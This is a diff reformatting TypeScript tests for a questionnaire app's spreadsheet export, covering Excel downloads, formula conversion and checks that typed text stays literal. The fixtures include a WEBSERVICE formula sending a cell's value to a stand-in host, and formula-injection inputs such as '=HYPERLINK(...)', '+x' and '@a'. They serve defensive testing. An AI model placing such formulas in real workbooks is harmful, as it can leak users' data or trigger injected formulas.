@@ -17,18 +17,45 @@ const calculator: z.input<typeof definition> = {
       Title: el('Μέρος'),
       Questions: [
         {
-          Id: 'ID_0001', Type: questionTypes.spreadsheet, Group: 1, Text: el('Κόστος'),
-          Data: { Table: { Name: 'Costs', Columns: 2, Rows: 6, Widths: [30], Cells: {
-            A1: { Value: { el: '@Κόστος', en: '@Cost' }, Bold: true },
-            B1: { Input: 'number', Format: 'money' },
-            B2: { Input: 'percent' },
-            B3: { Input: 'text' },
-            B4: { Value: '=B1*(1+B2)', Format: 'money' },
-            B5: { Value: '=1/0' },
-            B6: { Value: '=WEBSERVICE("http://x/"&B3)' },
-          }, Charts: [{ Type: 'bar', Title: el('Γράφημα'), Labels: 'A1:A2', Series: [{ Name: el('Ποσά'), Values: 'B1:B2' }] }] } },
+          Id: 'ID_0001',
+          Type: questionTypes.spreadsheet,
+          Group: 1,
+          Text: el('Κόστος'),
+          Data: {
+            Table: {
+              Name: 'Costs',
+              Columns: 2,
+              Rows: 6,
+              Widths: [30],
+              Cells: {
+                A1: { Value: { el: '@Κόστος', en: '@Cost' }, Bold: true },
+                B1: { Input: 'number', Format: 'money' },
+                B2: { Input: 'percent' },
+                B3: { Input: 'text' },
+                B4: { Value: '=B1*(1+B2)', Format: 'money' },
+                B5: { Value: '=1/0' },
+                B6: { Value: '=WEBSERVICE("http://x/"&B3)' },
+              },
+              Charts: [
+                { Type: 'bar', Title: el('Γράφημα'), Labels: 'A1:A2', Series: [{ Name: el('Ποσά'), Values: 'B1:B2' }] },
+              ],
+            },
+          },
         },
-        { Id: 'ID_0002', Type: questionTypes.spreadsheet, Group: 2, Text: el('Σύνοψη'), Data: { Table: { Name: 'Summary', Columns: 1, Rows: 2, Cells: { A1: { Value: '=SUM(Costs!B1;Costs!B4)' }, A2: { Value: '24/11/2026', Format: 'date' } } } } },
+        {
+          Id: 'ID_0002',
+          Type: questionTypes.spreadsheet,
+          Group: 2,
+          Text: el('Σύνοψη'),
+          Data: {
+            Table: {
+              Name: 'Summary',
+              Columns: 1,
+              Rows: 2,
+              Cells: { A1: { Value: '=SUM(Costs!B1;Costs!B4)' }, A2: { Value: '24/11/2026', Format: 'date' } },
+            },
+          },
+        },
       ],
     },
   ],
@@ -42,11 +69,16 @@ const begin = async (): Promise<{ world: World; mentee: Person; set: number }> =
   await mentee.done('/api/quest/StartTime', { AnswerSetId: set });
   return { world, mentee, set };
 };
-const download = (world: World, person: Person, query: string) => world.app.inject({ method: 'GET', url: `/api/quest/Workbook?${query}`, headers: { cookie: person.cookie } });
+const download = (world: World, person: Person, query: string) =>
+  world.app.inject({ method: 'GET', url: `/api/quest/Workbook?${query}`, headers: { cookie: person.cookie } });
 
 test('typed numbers, live formulas with their values, references between sheets, harmless text', async () => {
   const { world, mentee, set } = await begin();
-  await mentee.done('/api/quest/AnswerOpen', { AnswerSetId: set, GroupId: 1, Text: JSON.stringify({ B1: '1.000,5', B2: '24', B3: '=HYPERLINK("http://x")' }) });
+  await mentee.done('/api/quest/AnswerOpen', {
+    AnswerSetId: set,
+    GroupId: 1,
+    Text: JSON.stringify({ B1: '1.000,5', B2: '24', B3: '=HYPERLINK("http://x")' }),
+  });
   const reply = await download(world, mentee, `AnswerSetId=${set}`);
   expect(reply.statusCode).toBe(200);
   expect(reply.headers['content-type']).toContain('spreadsheetml');
@@ -70,7 +102,9 @@ test('typed numbers, live formulas with their values, references between sheets,
 
 test('the table asked for comes first; another language is in the other words; what is not there is missing', async () => {
   const { world, mentee, set } = await begin();
-  const { sheets } = await readXlsx((await download(world, mentee, `AnswerSetId=${set}&Group=2&Language=en`)).rawPayload);
+  const { sheets } = await readXlsx(
+    (await download(world, mentee, `AnswerSetId=${set}&Group=2&Language=en`)).rawPayload,
+  );
   expect(sheets.map(({ name }) => name)).toEqual(['Summary', 'Costs']);
   expect(sheets[1]?.rows[0]?.[0]).toBe('Cost');
   expect((await download(world, mentee, `AnswerSetId=${set}&Group=9`)).statusCode).toBe(404);
@@ -84,7 +118,8 @@ test('only those who may see the answers', async () => {
 
 test('a table without inputs asks nothing, and an address that takes no input is refused', async () => {
   const { mentee, set } = await begin();
-  const answer = (GroupId: number, cells: Record<string, string>) => mentee.call('/api/quest/AnswerOpen', { AnswerSetId: set, GroupId, Text: JSON.stringify(cells) });
+  const answer = (GroupId: number, cells: Record<string, string>) =>
+    mentee.call('/api/quest/AnswerOpen', { AnswerSetId: set, GroupId, Text: JSON.stringify(cells) });
   expect((await answer(1, { B1: '5' })).output).toMatchObject({ Answered: 1, Countable: 1, Completion: 100 });
   expect((await answer(1, { B4: '5' })).problem?.code).toBe('UNKNOWN_OPTION');
   expect((await answer(1, { B1: 'x'.repeat(2001) })).problem?.code).toBe('INVALID_ANSWER');
@@ -92,14 +127,38 @@ test('a table without inputs asks nothing, and an address that takes no input is
 });
 
 test('formulas as files have them', () => {
-  expect(formulaForFile('sum(t1!$a$1:b2;"a""b";TRUE)&ifs(a1>=2;1%)')).toBe(`SUM('t1'!$A$1:B2,"a""b",TRUE)&_xlfn.IFS(A1>=2,1%)`);
-  expect(['=1', '#REF!', '_x0041_', 'a\uFFFEb\u0001\uD800', ''].map(bookText)).toEqual(['=1', '#REF!', '_x005F_x0041_', 'a\uFFFDb\uFFFD\uFFFD', '']);
+  expect(formulaForFile('sum(t1!$a$1:b2;"a""b";TRUE)&ifs(a1>=2;1%)')).toBe(
+    `SUM('t1'!$A$1:B2,"a""b",TRUE)&_xlfn.IFS(A1>=2,1%)`,
+  );
+  expect(['=1', '#REF!', '_x0041_', 'a\uFFFEb\u0001\uD800', ''].map(bookText)).toEqual([
+    '=1',
+    '#REF!',
+    '_x005F_x0041_',
+    'a\uFFFDb\uFFFD\uFFFD',
+    '',
+  ]);
 });
 
 test('texts stay what was typed, those kept before they were judged too', async () => {
   const texts = ['=1+1', '+x', '-x', '@a', '#REF!', '_x0041_', 'a\uFFFEb\u0001c', ' =1'];
-  const table = { Name: 'T', Columns: 1, Rows: 9, Widths: [], Charts: [], Cells: Object.fromEntries(texts.map((_, row) => [`A${row + 1}`, { Value: '', Input: 'text' as const }])) };
+  const table = {
+    Name: 'T',
+    Columns: 1,
+    Rows: 9,
+    Widths: [],
+    Charts: [],
+    Cells: Object.fromEntries(texts.map((_, row) => [`A${row + 1}`, { Value: '', Input: 'text' as const }])),
+  };
   const typed = { T: Object.fromEntries(texts.map((text, row) => [`A${row + 1}`, text])) };
   const { sheets } = await readXlsx(await workbookOf([table], calculate([table], typed)));
-  expect(sheets[0]?.rows.map(([cell]) => cell)).toEqual(['=1+1', '+x', '-x', '@a', '#REF!', '_x0041_', 'a\uFFFDb\uFFFDc', ' =1']);
+  expect(sheets[0]?.rows.map(([cell]) => cell)).toEqual([
+    '=1+1',
+    '+x',
+    '-x',
+    '@a',
+    '#REF!',
+    '_x0041_',
+    'a\uFFFDb\uFFFDc',
+    ' =1',
+  ]);
 });
